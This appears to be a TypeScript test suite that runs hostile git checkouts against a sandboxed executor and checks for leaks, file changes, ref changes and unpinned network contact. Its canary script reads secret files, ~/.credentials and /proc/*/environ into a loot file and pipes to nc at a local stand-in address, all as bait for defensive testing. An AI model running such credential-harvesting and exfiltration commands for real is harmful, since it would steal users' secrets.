/** Every hostile checkout of test/corpus/git-vectors, under a policy that lets each verb through. */
import assert from 'node:assert/strict';
import { execFile } from 'node:child_process';
import { readdirSync, readFileSync } from 'node:fs';
import { chmod, cp, lstat, readFile, readdir, readlink, stat, writeFile } from 'node:fs/promises';
import { once } from 'node:events';
import { createServer, type Server } from 'node:net';
import { basename, join } from 'node:path';
import { after, before, describe, test } from 'node:test';
import { fileURLToPath } from 'node:url';
import { promisify } from 'node:util';
import { inflateSync } from 'node:zlib';
import type { Executor, Outcome } from '../../../src/executor/types.ts';
import { needs } from '../../support/real.ts';
import { git, guarded, makePlace, newExecutor, plainEnv, type Place } from './support.ts';

const run = promisify(execFile);
const corpus = fileURLToPath(new URL('../../corpus/git-vectors/', import.meta.url));
const verbs = JSON.parse(readFileSync(join(corpus, 'VERBS.json'), 'utf8')) as Record<string, string[]>;
const index = JSON.parse(readFileSync(join(corpus, 'index.json'), 'utf8')) as {
  file: string;
  what: string;
  kind: string;
  fires_with: string[];
}[];
const scripts = readdirSync(corpus).filter((name) => /^\d+.*\.sh$/.test(name));

const secrets = {
  file: 'machine git.example login op password TOP-SECRET-9f/3a=',
  home: 'HOME-SECRET-41c2',
  env: 'ENV-SECRET-77aa',
};
const needles = ['TOP-SECRET', secrets.home, secrets.env, 'PRIVATE-REPOSITORY'];
/** A verb of a vector that hangs is given less time, and only some of the verbs are tried. */
const timeoutMs = 20_000;
const hangMs = 2_500;
const hangVerbs = 4;
/** Which refs of the remote a verb may change. */
const mayChange: Record<string, string[]> = {
  push: ['refs/heads/t1'],
  'push-u': ['refs/heads/t1'],
  'push-main': ['refs/heads/main'],
  'push-bare': ['refs/heads/main'],
  'push-origin': ['refs/heads/main'],
};

let executor: Executor;
const contacts: string[] = [];
/** Addresses that something else on this machine holds. */
const deaf: string[] = [];
const servers: Server[] = [];

before(async () => {
  executor = newExecutor();
  // The addresses that vectors name; nothing pinned is there.
  for (const [host, port] of [
    ['127.0.0.2', 8082],
    ['127.0.0.1', 8081],
  ] as const) {
    const server = createServer((socket) => {
      contacts.push(`${host}:${port}`);
      socket.destroy();
    });
    server.listen(port, host);
    const error = await once(server, 'listening').then(
      () => undefined,
      (failure: Error) => failure,
    );
    if (error !== undefined) deaf.push(`${host}:${port}: ${error.message}`);
    servers.push(server);
  }
});

after(async () => {
  await executor.close();
  for (const server of servers) server.close();
});

type Scene = {
  readonly place: Place;
  readonly repo: string;
  readonly pinned: string;
  readonly sshLog: string;
};

async function stage(place: Place, script: string): Promise<Scene> {
  const repo = join(place.workspace, 'r');
  const canary = join(place.workspace, 'canary');
  await writeFile(join(place.outside, 'secret.txt'), `${secrets.file}\n`);
  await writeFile(join(place.outside, 'victim.txt'), 'victim\n');
  await writeFile(join(place.home, '.credentials'), `${secrets.home}\n`);
  const priv = join(place.outside, 'private');
  await git(place.root, 'init', '-q', '-b', 'main', priv);
  await writeFile(join(priv, 'p.txt'), 'PRIVATE-REPOSITORY\n');
  await git(priv, 'add', '-A');
  await git(priv, 'commit', '-qm', 'PRIVATE-REPOSITORY');
  // Making the repository may run it already; it only bites afterwards.
  await writeFile(canary, '#!/bin/sh\nexit 0\n', { mode: 0o755 });
  await run('sh', [join(corpus, script), repo, canary, place.outside], {
    timeout: 300_000,
    cwd: place.workspace,
  });
  await writeFile(
    canary,
    `#!/bin/sh\n{ echo "$0 $*" >>'${place.outside}/ran'; cat '${place.outside}/secret.txt' '${place.home}/.credentials' /proc/*/environ >>'${place.workspace}/loot'; env >>'${place.workspace}/loot'; echo x | timeout 1 nc 127.0.0.2 8082; } 2>/dev/null\ncat >/dev/null 2>&1 </dev/null\nexit 0\n`,
  );
  const pinned = join(place.root, 'pinned.git');
  await cp(`${repo}.origin.git`, pinned, { recursive: true, verbatimSymlinks: true });
  // A vector may have written to its own origin; the operator's server has none of that.
  for (const name of await readdir(join(pinned, 'hooks')).catch(orEmpty))
    await writeFile(join(pinned, 'hooks', name), '');
  await writeFile(join(pinned, 'config'), '[core]\n\trepositoryformatversion = 0\n\tbare = true\n');
  const sshLog = join(place.root, 'ssh.log');
  const ssh = join(place.home, 'ssh');
  await writeFile(ssh, `#!/bin/sh\necho "$@" >>'${sshLog}'\nexit 1\n`);
  await chmod(ssh, 0o755);
  return { place, repo, pinned, sshLog };
}

function orEmpty(error: NodeJS.ErrnoException): string[] {
  if (error.code === 'ENOENT') return [];
  throw error;
}

/** Names below a folder; links are not followed (readdir's own recursion does). */
async function namesIn(folder: string, below = ''): Promise<string[]> {
  const entries = await readdir(join(folder, below), { withFileTypes: true });
  const names = await Promise.all(
    entries.map(async (entry) => {
      const name = join(below, entry.name);
      return entry.isDirectory() ? [name, ...(await namesIn(folder, name))] : [name];
    }),
  );
  return names.flat();
}

/** Everything in a folder, links not followed: name, kind, content. */
async function snapshot(folder: string): Promise<string[]> {
  const lines: string[] = [];
  for (const name of (await namesIn(folder)).toSorted()) {
    const path = join(folder, name);
    const found = await lstat(path);
    const content = found.isFile()
      ? (await readFile(path)).toString('base64')
      : found.isSymbolicLink()
        ? await readlink(path)
        : '';
    lines.push(`${name} ${found.mode.toString(8)} ${content}`);
  }
  return lines;
}

/** Files of a folder, and objects of the repositories in it, that hold what only the operator has. */
async function leaks(folder: string): Promise<string[]> {
  const found: string[] = [];
  for (const name of await namesIn(folder)) {
    const path = join(folder, name);
    const stats = await lstat(path);
    if (!stats.isFile() || stats.size > 8 * 1024 * 1024) continue;
    const bytes = await readFile(path);
    const text = [bytes, ...(/objects\/..\/[0-9a-f]{38,}$/.test(path) ? [inflated(bytes)] : [])].join('\n');
    if (needles.some((needle) => text.includes(needle))) found.push(path);
    if (path.endsWith('.pack') && (await packLeaks(folder, path))) found.push(path);
  }
  return found;
}

function inflated(bytes: Buffer): Buffer {
  try {
    return inflateSync(bytes, { maxOutputLength: 4 * 1024 * 1024 });
  } catch (error) {
    // Bombs and broken objects of a vector hold nothing of ours.
    if (
      ['ERR_BUFFER_TOO_LARGE', 'Z_BUF_ERROR', 'Z_DATA_ERROR'].includes(
        (error as NodeJS.ErrnoException).code ?? '',
      )
    )
      return Buffer.alloc(0);
    throw error;
  }
}

async function packLeaks(folder: string, pack: string): Promise<boolean> {
  const own = `${folder}-${basename(pack)}.git`;
  await git('/', 'init', '-q', '--bare', own);
  await cp(pack, join(own, 'objects/pack', basename(pack)));
  await run('git', ['index-pack', join(own, 'objects/pack', basename(pack))], { env: plainEnv, cwd: own });
  const list = await git(own, 'cat-file', '--batch-all-objects', '--batch-check=%(objectname) %(objectsize)');
  // Bombs hold nothing of ours.
  const small = list.split('\n').filter((line) => Number(line.split(' ')[1]) < 1024 * 1024);
  const shown = await Promise.all(small.map((line) => git(own, 'cat-file', '-p', line.split(' ')[0]!)));
  const stdout = shown.join('\n');
  return needles.some((needle) => stdout.includes(needle));
}

async function refs(bare: string): Promise<Map<string, string>> {
  const text = await git(bare, 'for-each-ref', '--format=%(refname) %(objectname)');
  return new Map(
    text
      .split('\n')
      .filter(Boolean)
      .map((line) => line.split(' ') as [string, string]),
  );
}

async function cwdOf(scene: Scene, name: string): Promise<string | null> {
  const part = name.split('@')[1];
  if (part === undefined) return scene.repo;
  for (const path of [join(scene.repo, part), join(scene.place.workspace, part)]) {
    const found = await stat(path).then(
      (one) => one.isDirectory(),
      () => false,
    );
    if (found) return path;
  }
  return null;
}

/** What a verb did that it may not do, in words. */
async function wrongs(scene: Scene, name: string, limitMs: number): Promise<string[]> {
  const { place, pinned } = scene;
  const cwd = await cwdOf(scene, name);
  if (cwd === null) return [];
  const call = guarded(executor, place, { remotes: { origin: `file://${pinned}` }, timeoutMs: limitMs });
  const [outsideBefore, homeBefore, refsBefore] = await Promise.all([
    snapshot(place.outside),
    snapshot(place.home),
    refs(pinned),
  ]);
  const started = performance.now();
  const outcome = await call(verbs[name]!, {
    cwd,
    env: { GH_TOKEN: secrets.env, GIT_SSH_COMMAND: join(place.home, 'ssh') },
  });
  const wrong: string[] = [];
  const say = (text: string, is: boolean) => is && wrong.push(`${name}: ${text}`);
  say('did not end in time', performance.now() - started > limitMs + 10_000);
  say(
    'told what only the operator has',
    needles.some((needle) => textOf(outcome).includes(needle)),
  );
  say(
    'changed something outside',
    JSON.stringify(await snapshot(place.outside)) !== JSON.stringify(outsideBefore),
  );
  say('changed something in HOME', JSON.stringify(await snapshot(place.home)) !== JSON.stringify(homeBefore));
  for (const [ref, id] of await refs(pinned)) {
    say(`changed ${ref} of the remote`, refsBefore.get(ref) !== id && !(mayChange[name] ?? []).includes(ref));
    refsBefore.delete(ref);
  }
  say(`deleted ${[...refsBefore.keys()].join()} of the remote`, refsBefore.size > 0);
  say('spoke ssh to an address that is not pinned', (await stat(scene.sshLog).catch(() => null)) !== null);
  return wrong;
}

function textOf(outcome: Outcome): string {
  return outcome.kind === 'refused'
    ? outcome.detail
    : outcome.stdout + outcome.stderr + outcome.notes.join('\n');
}

const always = ['status', 'fetch', 'push'];

test('each script of the corpus has an entry in its index', () => {
  assert.deepEqual(scripts.toSorted(), index.map(({ file }) => file).toSorted());
});

describe('a hostile checkout', { concurrency: 3, ...needs('bubblewrap', 'git') }, () => {
  for (const { file, what, kind, fires_with } of index) {
    test(`${file} (${kind}): ${what}`, async (t) => {
      const place = await makePlace(t);
      const scene = await stage(place, file);
      const wrong: string[] = [];
      const hangs = kind === 'hang';
      const tried = [
        ...new Set(hangs ? [...fires_with.slice(0, hangVerbs), 'fetch'] : [...fires_with, ...always]),
      ];
      for (const name of tried) {
        if (verbs[name] !== undefined) wrong.push(...(await wrongs(scene, name, hangs ? hangMs : timeoutMs)));
      }
      const leaked = [
        ...(await leaks(place.workspace)),
        ...(await leaks(place.state).catch(orEmpty)),
        ...(await leaks(scene.pinned)),
      ];
      assert.deepEqual([wrong, leaked], [[], []]);
    });
  }

  test('none of them reached an address that nobody pinned', (t) => {
    if (deaf.length > 0 && process.env['CI'] !== 'true') return t.skip(deaf.join());
    assert.deepEqual([contacts, deaf], [[], []]);
  });
});
